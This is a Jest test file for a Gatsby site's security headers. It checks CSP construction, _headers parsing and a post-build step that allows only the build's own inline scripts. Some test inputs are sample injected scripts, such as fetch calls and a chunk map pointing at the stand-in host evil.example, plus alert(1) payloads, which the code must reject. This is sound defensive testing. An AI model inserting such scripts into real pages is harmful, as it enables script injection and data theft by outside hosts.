/**
 * The security headers: the policy for each configuration, the _headers file
 * round trip and path matching, the post-build rewrite of the pages (NUL
 * bytes, Gatsby's per-page inline script, only the build's own inline
 * scripts hashed, the inline-script limit), and the sample server applying
 * the file.
 */
import { FINDER_SEARCH_SCRIPT, FINDER_TITLE_SCRIPT } from "../../src/lib/finder-flag";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import {
  contentSecurityPolicy,
  formatHeadersFile,
  siteHeaderRules,
  headersForPath,
  originOf,
  parseHeadersFile,
  scriptHash,
  securityHeaders,
  type HeaderRule,
} from "../../src/lib/security-headers";
import { MAX_INLINE_SCRIPTS, imageOrigins, rewritePagePathScript, stripNul, writeSecurityHeaders } from "../../gatsby/security-headers";
import { inlineScripts, isBuildScript } from "../../gatsby/inline-scripts";
import { listTextFiles, precompress } from "../../gatsby/precompress";
import zlib from "node:zlib";
import { Writable } from "node:stream";
import * as React from "react";
import { renderToPipeableStream } from "react-dom/server";
import { buildApp } from "../../server/app";
import { openTestDatabase } from "../server/test-database";
import { FIXTURE_SEED } from "../server/helpers";

function directive(policy: string, name: string): string[] {
  const found = policy.split("; ").find((d) => d.startsWith(`${name} `));
  return found ? found.split(" ").slice(1) : [];
}

describe("contentSecurityPolicy", () => {
  it("allows only the site itself without any third party, and no eval nor inline script", () => {
    const policy = contentSecurityPolicy({}, []);
    expect(directive(policy, "default-src")).toEqual(["'self'"]);
    expect(directive(policy, "script-src")).toEqual(["'self'"]);
    expect(directive(policy, "connect-src")).toEqual(["'self'"]);
    expect(directive(policy, "frame-src")).toEqual(["'none'"]);
    expect(directive(policy, "object-src")).toEqual(["'none'"]);
    expect(directive(policy, "frame-ancestors")).toEqual(["'none'"]);
    expect(policy).not.toMatch(/unsafe-eval|googleapis|usercentrics|googletagmanager/);
    expect(directive(policy, "script-src")).not.toContain("'unsafe-inline'");
  });

  it("adds the hashes of inline scripts, sorted so the header is stable", () => {
    const hashes = [scriptHash("b()"), scriptHash("a()")];
    expect(directive(contentSecurityPolicy({}, hashes), "script-src")).toEqual(["'self'", ...[...hashes].sort()]);
    expect(scriptHash("")).toBe("'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='");
  });

  it("allows the API, blog and image origins only when they are elsewhere", () => {
    const policy = contentSecurityPolicy({ apiUrl: "https://api.example.com/api", blogUrl: "/blog", imageOrigins: ["https://cdn.example.com"] }, []);
    expect(directive(policy, "connect-src")).toEqual(["'self'", "https://api.example.com"]);
    expect(directive(policy, "img-src")).toEqual(["'self'", "data:", "https://cdn.example.com", "https://api.example.com"]);
    expect(originOf("/api")).toBeNull();
    expect(originOf("javascript:alert(1)")).toBeNull();
  });

  it("adds the maps, consent manager and tag manager hosts each only when configured", () => {
    const maps = contentSecurityPolicy({ mapsKey: "k" }, []);
    expect(directive(maps, "script-src")).toContain("https://*.googleapis.com");
    expect(directive(maps, "frame-src")).toEqual(["https://*.google.com"]);
    expect(maps).not.toMatch(/usercentrics|googletagmanager/);
    const consent = contentSecurityPolicy({ consentId: "abc" }, []);
    expect(directive(consent, "script-src")).toContain("https://web.cmp.usercentrics.eu");
    expect(consent).not.toMatch(/googleapis|googletagmanager/);
    const gtm = contentSecurityPolicy({ gtmId: "GTM-X" }, []);
    expect(directive(gtm, "script-src")).toContain("https://www.googletagmanager.com");
    expect(directive(gtm, "connect-src")).toContain("https://*.google-analytics.com");
    expect(gtm).not.toMatch(/usercentrics|maps/);
  });

  it("comes with HSTS, nosniff, the referrer policy and geolocation for the site alone", () => {
    const headers = securityHeaders({}, []);
    expect(headers["Strict-Transport-Security"]).toBe("max-age=63072000; includeSubDomains");
    expect(headers["X-Content-Type-Options"]).toBe("nosniff");
    expect(headers["Referrer-Policy"]).toBe("strict-origin-when-cross-origin");
    expect(headers["Permissions-Policy"]).toMatch(/^geolocation=\(self\), camera=\(\), microphone=\(\)/);
  });
});

describe("the _headers file", () => {
  const rules: HeaderRule[] = [
    { path: "/*", headers: { "X-Content-Type-Options": "nosniff", "Content-Security-Policy": "default-src 'self'; img-src 'self' data:" } },
    { path: "/static/*", headers: { "X-Extra": "1" } },
  ];

  it("reads back what it writes, values with colons and quotes included", () => {
    const text = formatHeadersFile(rules);
    expect(text).toContain("/*\n  X-Content-Type-Options: nosniff\n");
    expect(parseHeadersFile(text)).toEqual(rules);
  });

  it("applies every matching rule to a path, query and fragment ignored", () => {
    expect(headersForPath(rules, "/en/locations/?q=1")).toEqual(rules[0].headers);
    expect(headersForPath(rules, "/static/a.png")).toEqual({ ...rules[0].headers, "X-Extra": "1" });
    expect(headersForPath([{ path: "/en/*", headers: { A: "1" } }], "/fr/")).toEqual({});
  });

  it("matches `*` across line breaks, U+2028 and U+2029 (a decoded path may hold them)", () => {
    for (const odd of ["/en/\n", "/\r", "/x\u2028", "/x\u2029/y", "/media/\r\n"]) {
      expect([JSON.stringify(odd), headersForPath(rules, odd)]).toEqual([JSON.stringify(odd), rules[0].headers]);
    }
  });

  it("sends no Referer from the pages whose address may hold a secret, whichever rule a host lets win", () => {
    const site = siteHeaderRules({ "Referrer-Policy": "strict-origin-when-cross-origin", "X-Content-Type-Options": "nosniff" }, [
      "/rendez-vous/gerer/",
      "/en/appointment/manage/",
    ]);
    const read = parseHeadersFile(formatHeadersFile(site));
    for (const page of ["/rendez-vous/gerer/", "/rendez-vous/gerer", "/en/appointment/manage/", "/en/appointment/manage/?x=1"]) {
      expect([page, headersForPath(read, page)]).toEqual([page, { "Referrer-Policy": "no-referrer", "X-Content-Type-Options": "nosniff" }]);
    }
    expect(headersForPath(read, "/rendez-vous/")["Referrer-Policy"]).toBe("strict-origin-when-cross-origin");
    expect(headersForPath(read, "/en/appointment/")["Referrer-Policy"]).toBe("strict-origin-when-cross-origin");
  });

  it("rejects a header line before any path", () => {
    expect(() => parseHeadersFile("  X-A: 1\n")).toThrow(/outside a rule/);
  });
});

const LOADER = (pagePath: string) =>
  `<script id="gatsby-script-loader">/*<![CDATA[*/window.pagePath="${pagePath}";window.___webpackCompilationHash="abc123";/*]]>*/</script>`;

describe("the post-build rewrite of the pages", () => {
  it("removes NUL characters (React 18.3 streaming, facebook/react#31134)", () => {
    expect(stripNul("<p>a\u0000b</p>\u0000")).toBe("<p>ab</p>");
    expect(stripNul("<p>ok</p>")).toBe("<p>ok</p>");
  });

  it("turns Gatsby's per-page pagePath script into one identical script reading a data attribute", () => {
    const a = rewritePagePathScript(`<body>${LOADER("/en/a/")}</body>`);
    const b = rewritePagePathScript(`<body>${LOADER('/b/\\"q\\"&x/')}</body>`);
    expect(a).toContain('data-page-path="/en/a/"');
    expect(b).toContain('data-page-path="/b/&quot;q&quot;&amp;x/"');
    expect(inlineScripts(a)).toEqual(inlineScripts(b));
    expect(inlineScripts(a)[0]).toContain('window.___webpackCompilationHash="abc123"');
  });

  it("sets window.pagePath to the page's path when the rewritten script runs", () => {
    const html = rewritePagePathScript(LOADER('/b/\\"q\\"&x/'));
    const attribute = /data-page-path="([^"]*)"/
      .exec(html)![1]
      .replace(/&quot;/g, '"')
      .replace(/&amp;/g, "&");
    const script = inlineScripts(html)[0];
    const win: Record<string, unknown> = {};
    const doc = { getElementById: (id: string) => (id === "gatsby-script-loader" ? { getAttribute: () => attribute } : null) };
    // eslint-disable-next-line @typescript-eslint/no-implied-eval -- runs the page's own inline script, as the browser would
    new Function("window", "document", script)(win, doc);
    expect(win.pagePath).toBe('/b/"q"&x/');
  });

  it("finds the inline scripts that run as a browser parses the page (no src, no JSON-LD), and the image origins", () => {
    const html =
      '<script src="/app.js"></script><script type="application/ld+json">{}</script><script>run()</script>' +
      '<div title="<script>no()</script>"></div><svg><script>svg()</script></svg><script type="text/ecmascript">old()</script>' +
      '<noscript><script>never()</script></noscript><script type="module">mod()</script>' +
      '<img src="https://cdn.example.com/a.jpg" srcset="https://img.example.com/a.jpg 2x, /b.jpg 1x"><img src="/c.jpg">';
    expect(inlineScripts(html)).toEqual(["run()", "svg()", "old()", "mod()"]);
    expect(imageOrigins(html).sort()).toEqual(["https://cdn.example.com", "https://img.example.com"]);
  });

  /** Gatsby's chunk map and compilation hash, as the build writes them. */
  const CHUNK_MAP = `<script id="gatsby-chunk-mapping">
            window.___chunkMapping=${JSON.stringify(JSON.stringify({ app: ["/app.305578e09d5d658538f9.css", "/app-cb64fed65979.js"], "component---src-pages-404-tsx": ["/component---src-pages-404-tsx-408782c037a1.js"] }))};
          </script>`;
  const HASH = (hash = "3861d663c8a551a4cc60") => `<script>window.___webpackCompilationHash="${hash}";</script>`;

  it("knows the build's own inline scripts to the character, and nothing else", () => {
    const loader = inlineScripts(rewritePagePathScript(LOADER("/en/")))[0];
    expect([loader, ...inlineScripts(CHUNK_MAP + HASH())].map(isBuildScript)).toEqual([true, true, true]);
    for (const other of [
      "run()",
      `${loader}fetch("//evil.example")`,
      'window.___webpackCompilationHash="abc";alert(1)',
      `window.___chunkMapping=${JSON.stringify(JSON.stringify({ app: ["https://evil.example/x.js"] }))};`,
      `window.___chunkMapping=${JSON.stringify("{}")};alert(1);`,
      'window.___chunkMapping="x";',
    ]) {
      expect([other, isBuildScript(other)]).toEqual([other, false]);
    }
  });

  it("knows the finder page's search flag to the character", () => {
    expect(isBuildScript(FINDER_SEARCH_SCRIPT)).toBe(true);
    expect(isBuildScript(`${FINDER_SEARCH_SCRIPT};fetch("//evil.example")`)).toBe(false);
    expect(isBuildScript(FINDER_TITLE_SCRIPT)).toBe(true);
    expect(isBuildScript(FINDER_TITLE_SCRIPT.replace("textContent", "innerHTML"))).toBe(false);
  });

  it("has nothing to allow for a Suspense boundary that waited: the build renders once every part is ready", async () => {
    // As Gatsby's HTML renderer does: React's stream piped once everything is ready (onAllReady).
    const Lazy = React.lazy(
      () =>
        new Promise<{ default: () => React.ReactElement }>((resolve) =>
          setTimeout(() => resolve({ default: () => React.createElement("p", null, "chargé") }), 5),
        ),
    );
    const html = await new Promise<string>((resolve, reject) => {
      let out = "";
      const page = React.createElement("div", null, React.createElement(React.Suspense, { fallback: "…" }, React.createElement(Lazy)));
      const stream = renderToPipeableStream(page, {
        onAllReady: () =>
          stream.pipe(new Writable({ write: (chunk, _encoding, done) => ((out += String(chunk)), done()), final: (done) => (resolve(out), done()) })),
        onError: reject,
      });
    });
    expect(html).toContain("<p>chargé</p>");
    expect(inlineScripts(html)).toEqual([]);
  });

  describe("writeSecurityHeaders over a built folder", () => {
    let dir: string;
    beforeEach(() => {
      dir = fs.mkdtempSync(path.join(os.tmpdir(), "uniglass-headers-"));
      fs.mkdirSync(path.join(dir, "en"));
      fs.writeFileSync(path.join(dir, "index.html"), `<h1>a\u0000</h1>${LOADER("/")}${CHUNK_MAP}${HASH()}`);
      fs.writeFileSync(path.join(dir, "en", "index.html"), `<h1>b</h1>${LOADER("/en/")}${CHUNK_MAP}${HASH()}`);
    });
    afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

    it("rewrites the pages and writes _headers with one hash per distinct inline script of the build", () => {
      const report = writeSecurityHeaders(dir, { apiUrl: "https://api.example.com/api" });
      expect(report).toMatchObject({ pages: 2, inlineScripts: 3 });
      expect(fs.readFileSync(path.join(dir, "index.html"), "utf8")).not.toContain("\u0000");
      const [rule, ...privatePages] = parseHeadersFile(fs.readFileSync(path.join(dir, "_headers"), "utf8"));
      expect(rule.path).toBe("/*");
      expect(privatePages.map((r) => [r.path, r.headers])).toEqual(
        ["/rendez-vous/gerer", "/rendez-vous/gerer/*", "/en/appointment/manage", "/en/appointment/manage/*"].map((p) => [
          p,
          { "Referrer-Policy": "no-referrer" },
        ]),
      );
      const scriptSrc = directive(rule.headers["Content-Security-Policy"], "script-src");
      expect(scriptSrc).toContain(scriptHash('window.___webpackCompilationHash="3861d663c8a551a4cc60";'));
      expect(scriptSrc.filter((s) => s.startsWith("'sha256-"))).toHaveLength(3);
      expect(directive(rule.headers["Content-Security-Policy"], "connect-src")).toContain("https://api.example.com");
    });

    it("parses again only the pages written since the last run, with a cache of what each page gave", () => {
      const cacheFile = path.join(dir, "cache", "page-facts.json");
      const first = writeSecurityHeaders(dir, {}, { cacheFile });
      expect(first).toMatchObject({ pages: 2, reused: 0, inlineScripts: 3 });
      expect(writeSecurityHeaders(dir, {}, { cacheFile })).toMatchObject({ pages: 2, reused: 2, inlineScripts: 3 });
      // A page written again (a rebuild's changed page) is read again: its new image origin reaches the CSP.
      fs.writeFileSync(path.join(dir, "en", "index.html"), `<h1>b</h1><img src="https://images.example.org/a.jpg">${LOADER("/en/")}${CHUNK_MAP}${HASH()}`);
      const second = writeSecurityHeaders(dir, {}, { cacheFile });
      expect(second.reused).toBe(1);
      expect(directive(second.headers["Content-Security-Policy"], "img-src")).toContain("https://images.example.org");
      // The cache never hides a forbidden script in a changed page.
      fs.writeFileSync(path.join(dir, "index.html"), `<h1>a</h1>${LOADER("/")}<script>one()</script>`);
      expect(() => writeSecurityHeaders(dir, {}, { cacheFile })).toThrow(/index\.html has an inline script the build does not write/);
    });

    it("keeps each distinct script once in its cache, and reads a cache of another shape as none", () => {
      const cacheFile = path.join(dir, "cache", "page-facts.json");
      writeSecurityHeaders(dir, {}, { cacheFile });
      const cache = JSON.parse(fs.readFileSync(cacheFile, "utf8")) as { scripts: string[]; pages: Record<string, { scripts: number[] }> };
      expect(cache.scripts).toHaveLength(3);
      expect(Object.keys(cache.pages).sort()).toEqual([path.join("en", "index.html"), "index.html"]);
      expect(cache.pages["index.html"].scripts).toEqual(cache.pages[path.join("en", "index.html")].scripts);
      fs.writeFileSync(cacheFile, JSON.stringify({ "index.html": { mtimeMs: 0, size: 0, scripts: [], origins: [] } }));
      expect(writeSecurityHeaders(dir, {}, { cacheFile })).toMatchObject({ pages: 2, reused: 0, inlineScripts: 3 });
    });

    it("gives a page it rewrites its new state in the listing it shares with the compressed copies", async () => {
      // The page's copies are current; the build then left a NUL in it, which the headers step strips.
      const page = path.join(dir, "index.html");
      fs.writeFileSync(page, `<h1>a</h1>${"<p>Réparation de pare-brise</p>".repeat(60)}${LOADER("/")}${CHUNK_MAP}${HASH()}`);
      await precompress(dir);
      fs.writeFileSync(page, `${fs.readFileSync(page, "utf8")}\u0000`);
      const now = Date.now();
      fs.utimesSync(page, new Date(now), new Date(now - 10_000));
      fs.utimesSync(`${page}.gz`, new Date(now), new Date(now - 5_000));
      fs.utimesSync(`${page}.br`, new Date(now), new Date(now - 5_000));
      const listing = listTextFiles(dir);
      writeSecurityHeaders(dir, {}, { listing });
      expect(listing.get(page)?.mtimeMs).toBe(fs.statSync(page).mtimeMs);
      await precompress(dir, listing);
      const html = fs.readFileSync(page, "utf8");
      expect(html).not.toContain("\u0000");
      expect(zlib.gunzipSync(fs.readFileSync(`${page}.gz`)).toString()).toBe(html);
      expect(zlib.brotliDecompressSync(fs.readFileSync(`${page}.br`)).toString()).toBe(html);
    });

    it.each([
      ["a plain inline script", "<script>one()</script>"],
      ["an SVG script", "<svg><script>alert(1)</script></svg>"],
      ["a script of another JavaScript type", '<script type="text/ecmascript">alert(1)</script>'],
    ])("fails the build on %s the build does not write, naming the page, and hashes nothing", (_name, injected) => {
      fs.writeFileSync(path.join(dir, "en", "index.html"), `<h1>b</h1>${LOADER("/en/")}${injected}`);
      expect(() => writeSecurityHeaders(dir, {})).toThrow(/en\/index\.html has an inline script the build does not write/);
      expect(fs.existsSync(path.join(dir, "_headers"))).toBe(false);
    });

    it(`fails the build past ${MAX_INLINE_SCRIPTS} distinct inline scripts, naming a page`, () => {
      for (let i = 0; i <= MAX_INLINE_SCRIPTS; i += 1) {
        fs.writeFileSync(path.join(dir, `p${i}.html`), HASH(`abc${i.toString(16).padStart(3, "0")}`));
      }
      expect(() => writeSecurityHeaders(dir, {})).toThrow(/distinct inline scripts[\s\S]*p\d+\.html/);
      expect(fs.existsSync(path.join(dir, "_headers"))).toBe(false);
    });
  });
});

describe("the sample server applies public/_headers", () => {
  it("to pages and files, not to the API", async () => {
    const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), "uniglass-headers-server-"));
    const publicDir = path.join(dataDir, "public");
    fs.mkdirSync(publicDir);
    fs.writeFileSync(path.join(publicDir, "index.html"), "<h1>Accueil</h1>");
    fs.writeFileSync(path.join(publicDir, "404.html"), "<h1>Introuvable</h1>");
    fs.writeFileSync(path.join(publicDir, "_headers"), formatHeadersFile([{ path: "/*", headers: securityHeaders({}, []) }]));
    const db = await openTestDatabase(dataDir);
    const app = await buildApp({ seedDir: FIXTURE_SEED, db, dataDir, publicDir });
    try {
      for (const url of ["/", "/nowhere/"]) {
        const res = await app.inject({ url });
        expect(res.headers["content-security-policy"]).toMatch(/^default-src 'self'; script-src 'self'/);
        expect(res.headers["x-content-type-options"]).toBe("nosniff");
        expect(res.headers["permissions-policy"]).toMatch(/geolocation=\(self\)/);
      }
      const api = await app.inject({ url: "/api/stores" });
      expect(api.statusCode).toBe(200);
      // The API's own: data, nothing to run or frame.
      expect(api.headers["content-security-policy"]).toBe("default-src 'none'; frame-ancestors 'none'");
    } finally {
      await app.close();
      await db.close();
      fs.rmSync(dataDir, { recursive: true, force: true });
    }
  }, 120_000);
});
